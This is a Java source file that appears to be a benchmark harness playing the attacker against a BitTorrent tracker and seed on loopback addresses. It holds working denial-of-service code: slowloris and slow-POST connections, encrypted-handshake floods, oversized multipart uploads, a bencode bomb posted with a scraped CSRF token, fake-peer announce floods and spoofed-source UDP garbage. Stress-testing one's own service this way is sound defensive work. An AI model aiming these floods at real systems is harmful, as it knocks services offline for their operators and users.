import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The attacker's side of bench/abuse.sh: the cheap shapes of the Revision3 flood that wrk,
 * UdpLoad.java and hping3 do not already make. Each subcommand runs for SECONDS, sends only to the
 * loopback address it is given, and ends with one line that starts with "attack:".
 *
 * <pre>
 * java bench/Abuse.java slow HOST PORT SOURCES PER_SOURCE SECONDS [FIRST_SOURCE=0]
 *     SOURCES addresses (127.0.0.5 when 1, else 127.3.x.y from the FIRST_SOURCE-th) each hold PER_SOURCE connections that
 *     trickle one byte of a request head every 3 s and never finish it; a connection the server
 *     closes is opened again (slowloris)
 * java bench/Abuse.java slowpeer HOST PORT SOURCES PER_SOURCE SECONDS [FIRST_SOURCE=0]
 *     the same against the seed's port, trickling a BitTorrent handshake (for a torrent nobody serves)
 * java bench/Abuse.java mse HOST PORT SOURCES PARALLEL SECONDS
 *     PARALLEL connections from SOURCES addresses (127.0.4.1 and up) that each open an encrypted
 *     handshake (MSE/PE): 96 random bytes for a Diffie-Hellman public key, which costs the seed two
 *     modular powers to answer; on its answer (or its refusal) the connection is closed and opened again
 * java bench/Abuse.java slowpost HOST PORT PATH CONNECTIONS SECONDS
 *     POSTs that announce a 10 MB multipart body and send one byte of it every 3 s
 * java bench/Abuse.java multipart HOST PORT PATH[,PATH...] MEGABYTES PARALLEL SECONDS
 *     anonymous multipart POSTs of MEGABYTES each, sent as fast as the server takes them (thread i to path i)
 * java bench/Abuse.java bombs HOST PORT PARALLEL SECONDS
 *     /verify posts of a bencode bomb (a list of 2,000,000 empty strings), with the form's CSRF token
 * java bench/Abuse.java peers HOST PORT INFO_HASH_HEX PEERS SECONDS
 *     HTTP announces of one torrent from one address (127.0.0.6) for PEERS different ports and peer ids
 * java bench/Abuse.java spoof VICTIM[,VICTIM...] HOST PORT SECONDS
 *     16-byte UDP garbage sent from the victims' (loopback) addresses in turn, as fast as it goes
 * </pre>
 */
public class Abuse {

    public static void main(String[] args) throws Exception {
        String mode = args[0];
        switch (mode) {
            case "slow", "slowpeer" -> slow(mode.equals("slow") ? ANNOUNCE_HEAD : PEER_HANDSHAKE, args[1],
                    Integer.parseInt(args[2]), Integer.parseInt(args[3]), Integer.parseInt(args[4]), Long.parseLong(args[5]),
                    args.length > 6 ? Integer.parseInt(args[6]) : 0);
            case "mse" -> mse(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]), Integer.parseInt(args[4]),
                    Long.parseLong(args[5]));
            case "slowpost" -> slowPost(args[1], Integer.parseInt(args[2]), args[3], Integer.parseInt(args[4]),
                    Long.parseLong(args[5]));
            case "multipart" -> multipart(args[1], Integer.parseInt(args[2]), args[3], Long.parseLong(args[4]),
                    Integer.parseInt(args[5]), Long.parseLong(args[6]));
            case "bombs" -> bombs(args[1], Integer.parseInt(args[2]), Integer.parseInt(args[3]), Long.parseLong(args[4]));
            case "peers" -> peers(args[1], Integer.parseInt(args[2]), HexFormat.of().parseHex(args[3]),
                    Integer.parseInt(args[4]), Long.parseLong(args[5]));
            case "spoof" -> spoof(args[1], args[2], Integer.parseInt(args[3]), Long.parseLong(args[4]));
            default -> throw new IllegalArgumentException("unknown shape " + mode);
        }
    }

    // ---- slowloris: connections that never finish their request head ----

    private static final byte[] ANNOUNCE_HEAD = "GET /announce?info_hash=".getBytes(StandardCharsets.US_ASCII);
    /** A BitTorrent handshake's 68 bytes: the protocol's name, reserved bits, a random info-hash and peer id. */
    private static final byte[] PEER_HANDSHAKE = peerHandshake();

    private static byte[] peerHandshake() {
        ByteBuffer handshake = ByteBuffer.allocate(68);
        handshake.put((byte) 19).put("BitTorrent protocol".getBytes(StandardCharsets.US_ASCII)).put(new byte[8]);
        byte[] random = new byte[40];
        ThreadLocalRandom.current().nextBytes(random);
        return handshake.put(random).array();
    }

    private static void slow(byte[] head, String host, int port, int sources, int perSource, long seconds, int first) throws Exception {
        List<InetAddress> from = new ArrayList<>();
        for (int i = first; i < first + sources; i++) {
            from.add(sources == 1 ? InetAddress.getByName("127.0.0.5")
                    : InetAddress.getByAddress(new byte[] {127, 3, (byte) (i / 250), (byte) (1 + i % 250)}));
        }
        Trickle trickle = new Trickle(new InetSocketAddress(host, port), head);
        trickle.hold(from, perSource, seconds);
        System.out.printf("attack: slow connections: %d held at the end (peak %d of %d wanted), %d opened, %d closed by the server, %d refused%n",
                trickle.open(), trickle.peak, sources * perSource, trickle.opened.get(), trickle.closedByServer, trickle.refused.get());
    }

    private static void slowPost(String host, int port, String path, int connections, long seconds) throws Exception {
        byte[] head = ("POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: multipart/form-data; boundary=xyz\r\n"
                + "Content-Length: 10000000\r\n\r\n--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a\"\r\n\r\n")
                .getBytes(StandardCharsets.US_ASCII);
        Trickle trickle = new Trickle(new InetSocketAddress(host, port), head);
        trickle.sendHeadAtOnce = true;
        trickle.hold(List.of(InetAddress.getByName("127.0.0.7")), connections, seconds);
        System.out.printf("attack: slow POST bodies: %d held at the end (peak %d of %d wanted), %d opened, %d closed by the server, %d refused%n",
                trickle.open(), trickle.peak, connections, trickle.opened.get(), trickle.closedByServer, trickle.refused.get());
    }

    /** Holds connections open, sending the next byte of {@code head} on each every 3 s (the whole head first if asked). */
    static final class Trickle {
        /** Connections opened at once at the start. */
        static final int OPENERS = 32;
        /** The local ports this client binds, {@code PORTS_FROM} and up; two clients start at random points. */
        static final int PORTS_FROM = 20_000;
        static final int PORTS = 40_000;
        final AtomicInteger nextPort = new AtomicInteger(ThreadLocalRandom.current().nextInt(PORTS));
        final InetSocketAddress target;
        final byte[] head;
        boolean sendHeadAtOnce;
        final List<SocketChannel> channels = new ArrayList<>();
        final List<InetAddress> sourceOf = new ArrayList<>();
        final List<Integer> sentOf = new ArrayList<>();
        final AtomicLong opened = new AtomicLong();
        long closedByServer;
        final AtomicLong refused = new AtomicLong();
        int peak;

        Trickle(InetSocketAddress target, byte[] head) {
            this.target = target;
            this.head = head;
        }

        void hold(List<InetAddress> sources, int perSource, long seconds) throws Exception {
            long end = System.nanoTime() + seconds * 1_000_000_000L;
            openAll(sources, perSource, end);
            peak = open();
            while (System.nanoTime() < end) {
                long roundStart = System.nanoTime();
                for (int i = 0; i < channels.size(); i++) {
                    SocketChannel channel = channels.get(i);
                    if (channel == null || !alive(channel, i)) {
                        closedByServer += channel == null ? 0 : 1;
                        channels.set(i, connect(sourceOf.get(i)));
                        sentOf.set(i, 0);
                        start(i);
                    }
                }
                peak = Math.max(peak, open());
                long wait = 3_000_000_000L - (System.nanoTime() - roundStart);
                if (wait > 0) {
                    Thread.sleep(Math.min(wait, Math.max(0, end - System.nanoTime())) / 1_000_000);
                }
            }
            for (SocketChannel channel : channels) {
                if (channel != null) {
                    channel.close();
                }
            }
        }

        int open() {
            int n = 0;
            for (SocketChannel channel : channels) {
                n += channel != null && channel.isOpen() ? 1 : 0;
            }
            return n;
        }

        /**
         * Opens every connection, {@link #OPENERS} at a time, as an attacker with a busy client
         * does: one by one, a connect to the tracker's port took a few milliseconds, and one address
         * did not reach its 20,000 connections within a window.
         */
        private void openAll(List<InetAddress> sources, int perSource, long end) throws InterruptedException {
            int total = sources.size() * perSource;
            SocketChannel[] opening = new SocketChannel[total];
            try (ExecutorService openers = Executors.newFixedThreadPool(OPENERS)) {
                for (int i = 0; i < total; i++) {
                    int k = i;
                    openers.execute(() -> {
                        if (System.nanoTime() < end) {
                            opening[k] = connect(sources.get(k / perSource));
                            // the first byte at once, as a slowloris client sends it: the listening socket
                            // hands a connection over only once data arrives (TCP_DEFER_ACCEPT), and
                            // connections that send nothing pile up in the kernel, slowing the next connects
                            first(opening[k]);
                        }
                    });
                }
            }
            for (int i = 0; i < total; i++) {
                channels.add(opening[i]);
                sourceOf.add(sources.get(i / perSource));
                sentOf.add(opening[i] == null ? 0 : sendHeadAtOnce ? head.length : 1);
            }
        }

        /** Sends a new connection's first byte (the whole head if asked); closes it if the server has gone. */
        private void first(SocketChannel channel) {
            if (channel == null) {
                return;
            }
            try {
                channel.write(ByteBuffer.wrap(head, 0, sendHeadAtOnce ? head.length : 1));
            } catch (IOException e) {
                try {
                    channel.close();
                } catch (IOException ignored) {
                    // gone already
                }
            }
        }

        /** Sends a reopened connection's first byte at once (see {@link #openAll}). */
        private void start(int i) {
            SocketChannel channel = channels.get(i);
            if (channel != null && !alive(channel, i)) {
                closedByServer++;
                channels.set(i, null);
            }
        }

        private SocketChannel connect(InetAddress source) {
            try {
                SocketChannel channel = SocketChannel.open();
                channel.setOption(StandardSocketOptions.SO_REUSEADDR, true);
                bindLocalPort(channel, source);
                channel.socket().connect(target, 2000);
                channel.configureBlocking(false);
                opened.incrementAndGet();
                return channel;
            } catch (IOException e) {
                refused.incrementAndGet();
                return null;
            }
        }

        /**
         * Binds the next free local port of {@link #PORTS} on {@code source}. Asked for any port, the
         * kernel searches the ports in use on that address for a free one, which with 20,000 held
         * took over a millisecond of kernel CPU per connection, on the attacker's core and under
         * locks the kernel's other binds and accepts take too: the harness measured itself.
         */
        private void bindLocalPort(SocketChannel channel, InetAddress source) throws IOException {
            for (int attempt = 0; ; attempt++) {
                int port = PORTS_FROM + Math.floorMod(nextPort.getAndIncrement(), PORTS);
                try {
                    channel.bind(new InetSocketAddress(source, port));
                    return;
                } catch (IOException inUse) {
                    if (attempt == 1000) {
                        throw inUse;
                    }
                }
            }
        }

        /** Sends the next byte; false when the server has closed the connection. */
        private boolean alive(SocketChannel channel, int i) {
            try {
                ByteBuffer in = ByteBuffer.allocate(4096);
                int read;
                while ((read = channel.read(in)) > 0) {
                    in.clear();
                }
                if (read < 0) {
                    channel.close();
                    return false;
                }
                int sent = sentOf.get(i);
                if (sendHeadAtOnce && sent == 0) {
                    channel.write(ByteBuffer.wrap(head));
                    sentOf.set(i, head.length);
                } else {
                    channel.write(ByteBuffer.wrap(new byte[] {sent < head.length ? head[sent] : (byte) 'x'}));
                    sentOf.set(i, sent + 1);
                }
                return true;
            } catch (IOException e) {
                try {
                    channel.close();
                } catch (IOException ignored) {
                    // gone already
                }
                return false;
            }
        }
    }

    // ---- encrypted handshakes: the seed's costliest answer to a stranger ----

    private static void mse(String host, int port, int sources, int parallel, long seconds) throws Exception {
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        AtomicLong answered = new AtomicLong();
        AtomicLong closed = new AtomicLong();
        AtomicLong failed = new AtomicLong();
        List<Thread> threads = new ArrayList<>();
        for (int t = 0; t < parallel; t++) {
            String source = "127.0.4." + (1 + t % sources);
            threads.add(Thread.ofPlatform().start(() -> {
                byte[] key = new byte[96];
                while (System.nanoTime() < end) {
                    ThreadLocalRandom.current().nextBytes(key);
                    try (Socket socket = new Socket()) {
                        socket.bind(new InetSocketAddress(source, 0));
                        socket.connect(new InetSocketAddress(host, port), 5000);
                        socket.setSoTimeout(5000);
                        socket.getOutputStream().write(key);
                        // the seed's public key, 96 bytes: it did the exchange; fewer, then the end: it refused
                        (socket.getInputStream().readNBytes(96).length == 96 ? answered : closed).incrementAndGet();
                    } catch (IOException e) {
                        failed.incrementAndGet();
                    }
                }
            }));
        }
        for (Thread thread : threads) {
            thread.join();
        }
        System.out.printf("attack: encrypted handshakes from %d addresses: %.0f/s answered with a key exchange, %.0f/s refused, %.0f/s failed%n",
                sources, answered.get() / (double) seconds, closed.get() / (double) seconds, failed.get() / (double) seconds);
    }

    // ---- large and costly bodies ----

    private static void multipart(String host, int port, String path, long megabytes, int parallel, long seconds) throws Exception {
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        Map<String, AtomicLong> outcomes = new ConcurrentHashMap<>();
        AtomicLong sentBytes = new AtomicLong();
        List<Thread> threads = new ArrayList<>();
        String[] paths = path.split(",");
        for (int t = 0; t < parallel; t++) {
            String target = paths[t % paths.length];
            threads.add(Thread.ofPlatform().start(() -> {
                while (System.nanoTime() < end) {
                    String outcome = target + " " + postLarge(host, port, target, megabytes << 20, end, sentBytes);
                    outcomes.computeIfAbsent(outcome, k -> new AtomicLong()).incrementAndGet();
                }
            }));
        }
        for (Thread thread : threads) {
            thread.join();
        }
        long posts = outcomes.values().stream().mapToLong(AtomicLong::get).sum();
        System.out.printf("attack: %d-MB multipart posts: %.1f/s, %d MB sent before the server answered or closed, outcomes %s%n",
                megabytes, posts / (double) seconds, sentBytes.get() >> 20, new TreeMap<>(outcomes));
    }

    private static String postLarge(String host, int port, String path, long size, long end, AtomicLong sentBytes) {
        String boundary = "----abuse";
        byte[] preamble = ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"torrent\"; filename=\"big.bin\"\r\n"
                + "Content-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
        try (Socket socket = new Socket()) {
            socket.bind(new InetSocketAddress("127.0.0.8", 0));
            socket.connect(new InetSocketAddress(host, port), 5000);
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(("POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: multipart/form-data; boundary=" + boundary
                    + "\r\nContent-Length: " + (preamble.length + size) + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            out.write(preamble);
            byte[] chunk = new byte[64 * 1024];
            InputStream in = socket.getInputStream();
            for (long sent = 0; sent < size && System.nanoTime() < end; sent += chunk.length) {
                if (in.available() > 0) {
                    break; // answered before the body ended
                }
                out.write(chunk);
                sentBytes.addAndGet(chunk.length);
            }
            return status(in);
        } catch (IOException e) {
            return "closed";
        }
    }

    private static void bombs(String host, int port, int parallel, long seconds) throws Exception {
        byte[] bomb = new byte[1 + 2 * 2_000_000 + 1];
        bomb[0] = 'l';
        for (int i = 1; i < bomb.length - 1; i += 2) {
            bomb[i] = '0';
            bomb[i + 1] = ':';
        }
        bomb[bomb.length - 1] = 'e';
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        Map<String, AtomicLong> outcomes = new ConcurrentHashMap<>();
        List<Thread> threads = new ArrayList<>();
        for (int t = 0; t < parallel; t++) {
            threads.add(Thread.ofPlatform().start(() -> {
                while (System.nanoTime() < end) {
                    String outcome = postBomb(host, port, bomb);
                    outcomes.computeIfAbsent(outcome, k -> new AtomicLong()).incrementAndGet();
                }
            }));
        }
        for (Thread thread : threads) {
            thread.join();
        }
        long posts = outcomes.values().stream().mapToLong(AtomicLong::get).sum();
        System.out.printf("attack: /verify bencode bombs (%d parallel, 4 MB each): %.1f/s, outcomes %s%n", parallel,
                posts / (double) seconds, new TreeMap<>(outcomes));
    }

    private static final Pattern CSRF = Pattern.compile("name=\"_csrf\"\\s+value=\"([^\"]+)\"");
    private static final Pattern COOKIE = Pattern.compile("(?im)^set-cookie:\\s*([^;\\r\\n]+)");

    private static String postBomb(String host, int port, byte[] bomb) {
        try {
            String page = exchange(host, port, ("GET /verify HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            Matcher token = CSRF.matcher(page);
            List<String> cookies = new ArrayList<>();
            for (Matcher cookie = COOKIE.matcher(page); cookie.find(); ) {
                cookies.add(cookie.group(1));
            }
            String boundary = "----bomb";
            // the bomb is sent from the one array all threads share: copying 4 MB per post would cost the
            // attacker's CPU, which on a small machine is taken from the application under test
            byte[] before = ((token.find() ? "--" + boundary + "\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n"
                    + token.group(1) + "\r\n" : "") + "--" + boundary
                    + "\r\nContent-Disposition: form-data; name=\"torrent\"; filename=\"bomb.torrent\"\r\n"
                    + "Content-Type: application/x-bittorrent\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
            byte[] after = ("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.US_ASCII);
            String head = "POST /verify HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: multipart/form-data; boundary=" + boundary
                    + "\r\nContent-Length: " + (before.length + bomb.length + after.length) + "\r\nConnection: close\r\n"
                    + (cookies.isEmpty() ? "" : "Cookie: " + String.join("; ", cookies) + "\r\n") + "\r\n";
            return statusOf(exchange(host, port, head.getBytes(StandardCharsets.US_ASCII), before, bomb, after));
        } catch (IOException e) {
            return "closed";
        }
    }

    // ---- the tracker: many peers from one address, spoofed garbage ----

    private static void peers(String host, int port, byte[] hash, int peers, long seconds) throws Exception {
        StringBuilder escaped = new StringBuilder();
        for (byte b : hash) {
            escaped.append('%').append(String.format("%02x", b));
        }
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        long answered = 0;
        long refused = 0;
        long failed = 0;
        String last = "";
        for (int i = 0; System.nanoTime() < end; i++) {
            int n = i % peers;
            String path = "/announce?info_hash=" + escaped + "&peer_id=" + String.format("-AB0001-%012d", n) + "&port=" + (20000 + n)
                    + "&uploaded=0&downloaded=0&left=1000&compact=1&numwant=0" + (i < peers ? "&event=started" : "");
            try {
                String answer = exchangeFrom("127.0.0.6", host, port, ("GET " + path + " HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
                        .getBytes(StandardCharsets.US_ASCII));
                if (answer.contains("failure reason")) {
                    refused++;
                } else if (answer.contains("8:complete")) {
                    answered++;
                    last = answer;
                } else {
                    failed++;
                }
            } catch (IOException e) {
                failed++;
            }
        }
        Matcher incomplete = Pattern.compile("10:incompletei(\\d+)e").matcher(last);
        System.out.printf("attack: %d peers from one address: %.0f announces/s, %d answered, %d refused, %d failed; swarm's leechers in the last answer: %s%n",
                peers, (answered + refused + failed) / (double) seconds, answered, refused, failed,
                incomplete.find() ? incomplete.group(1) : "-");
    }

    private static void spoof(String victims, String host, int port, long seconds) throws Exception {
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        long sent = 0;
        List<DatagramChannel> channels = new ArrayList<>();
        for (String victim : victims.split(",")) {
            DatagramChannel channel = DatagramChannel.open();
            channel.bind(new InetSocketAddress(victim, 0));
            channels.add(channel);
        }
        InetSocketAddress target = new InetSocketAddress(host, port);
        ByteBuffer garbage = ByteBuffer.allocate(16);
        while (System.nanoTime() < end) {
            for (int i = 0; i < 256; i++) {
                garbage.clear();
                garbage.putLong(0, System.nanoTime()).putLong(8, sent);
                channels.get((int) (sent % channels.size())).send(garbage, target);
                sent++;
            }
        }
        for (DatagramChannel channel : channels) {
            channel.close();
        }
        System.out.printf("attack: UDP garbage from the victims' addresses %s: %.0f datagrams/s%n", victims, sent / (double) seconds);
    }

    // ---- plumbing ----

    private static String exchange(String host, int port, byte[] head, byte[]... body) throws IOException {
        return exchangeFrom("127.0.0.8", host, port, head, body);
    }

    private static String exchangeFrom(String source, String host, int port, byte[] head, byte[]... body) throws IOException {
        try (Socket socket = new Socket()) {
            socket.bind(new InetSocketAddress(source, 0));
            socket.connect(new InetSocketAddress(host, port), 5000);
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(head);
            try {
                for (byte[] part : body) {
                    out.write(part);
                }
            } catch (IOException e) {
                // the server may answer and close before the body ends: read what it said
            }
            ByteArrayOutputStream answer = new ByteArrayOutputStream();
            try {
                socket.getInputStream().transferTo(answer);
            } catch (IOException e) {
                if (answer.size() == 0) {
                    throw e;
                }
            }
            return answer.toString(StandardCharsets.ISO_8859_1);
        }
    }

    private static String status(InputStream in) throws IOException {
        byte[] line = in.readNBytes(12);
        return statusOf(new String(line, StandardCharsets.ISO_8859_1));
    }

    private static String statusOf(String answer) {
        return answer.startsWith("HTTP/1.1 ") && answer.length() >= 12 ? answer.substring(9, 12) : "closed";
    }
}
